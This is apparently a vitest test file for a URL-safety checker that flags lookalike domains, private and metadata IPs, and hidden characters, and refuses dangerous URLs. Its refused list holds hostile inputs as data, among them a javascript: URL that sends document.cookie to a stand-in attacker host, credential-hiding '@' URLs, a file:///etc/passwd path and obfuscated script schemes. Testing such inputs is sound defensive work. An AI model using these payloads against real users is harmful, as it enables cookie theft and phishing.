import { describe, expect, it } from 'vitest'
import { judgeUrl } from './judge-url'
import type { UrlWarning } from './judge-url'

const OPENABLE: [url: string, shownHost: string, warnings: UrlWarning[]][] = [
  ['https://example.com/pay?id=1', 'example.com', []],
  ['http://example.com/', 'example.com', ['http']],
  ['https://xn--80ak6aa92e.com/', 'аррӏе.com', ['lookalike', 'punycode']],
  ['https://аррӏе.com/', 'аррӏе.com', ['lookalike', 'punycode']],
  ['https://аpple.com/', 'аpple.com', ['lookalike', 'mixed', 'punycode']],
  ['https://login.gοοgle.com/', 'login.gοοgle.com', ['lookalike', 'mixed', 'punycode']],
  ['https://bücher.example/', 'bücher.example', ['punycode']],
  ['https://ạpple.com/', 'ạpple.com', ['lookalike', 'punycode']],
  ['https://[::ffff:171.2.3.4]/', '[::ffff:ab02:304]', ['ip']],
  ['https://пример.example/', 'пример.example', ['punycode']],
  ['https://ελλάδα.example/', 'ελλάδα.example', ['punycode']],
  ['https://xn--wgv71a119e.example/', '日本語.example', ['punycode']],
  ['https://8.8.8.8/', '8.8.8.8', ['ip']],
  ['https://10.0.0.1/', '10.0.0.1', ['private', 'ip']],
  ['http://192.168.1.1/reboot?confirm=1', '192.168.1.1', ['private', 'ip', 'http']],
  ['https://172.31.0.9/', '172.31.0.9', ['private', 'ip']],
  ['https://172.32.0.9/', '172.32.0.9', ['ip']],
  ['https://169.254.169.254/latest/meta-data', '169.254.169.254', ['private', 'ip']],
  ['https://[fd00::1]/', '[fd00::1]', ['private', 'ip']],
  ['https://[::ffff:192.168.0.1]/', '[::ffff:c0a8:1]', ['private', 'ip']],
  ['https://printer.local/', 'printer.local', ['private']],
  ['https://0x7f.1/', '127.0.0.1', ['loopback']],
  ['https://2130706433/', '127.0.0.1', ['loopback']],
  ['https://[2001:db8::1]/', '[2001:db8::1]', ['ip']],
  ['http://localhost:3000/approve', 'localhost', ['loopback']],
  ['https://example.com:8443/', 'example.com', ['port']],
  ['https://exa\tmple.com/', 'example.com', ['hidden']],
  ['https://example.com/\u202egpj.exe', 'example.com', ['hidden']],
]

const REFUSED = [
  'https://bank.example@evil.example/',
  'https://:secret@evil.example/',
  'javascript:fetch("https://evil.example/"+document.cookie)',
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'java\nscript:alert(1)',
  'data:text/html,<b>hi</b>',
  'file:///etc/passwd',
  'blob:https://example.com/123',
  'vscode://file/tmp',
  '/relative',
  'example.com',
  '',
]

describe('A URL from a server', () => {
  it.each(OPENABLE)('%s is shown as host %s with the warnings %j', (url, shownHost, warnings) => {
    expect(judgeUrl(url)).toMatchObject({ openable: true, shownHost, warnings })
  })

  it.each(REFUSED)('cannot be opened when it is %j', (url) => {
    expect(judgeUrl(url).openable).toBe(false)
  })

  it('keeps the host that will be looked up beside the one that is shown', () => {
    expect(judgeUrl('https://аррӏе.com/')).toMatchObject({ host: 'xn--80ak6aa92e.com' })
  })

  it('names the host that an imitation is taken for', () => {
    expect(judgeUrl('https://аррӏе.com/')).toMatchObject({ imitates: 'apple.com' })
    expect(judgeUrl('https://example.com/')).not.toHaveProperty('imitates')
  })

  it('names the real host of one that hides it behind an @', () => {
    expect(judgeUrl('https://accounts.google.com@evil.example/login')).toMatchObject({ host: 'evil.example' })
  })

  it('leaves a label alone that only pretends to be Punycode', () => {
    // The URL parser of some browsers accepts such a host, others refuse it: neither may throw here.
    expect(() => judgeUrl('https://xn--a.example/')).not.toThrow()
  })
})
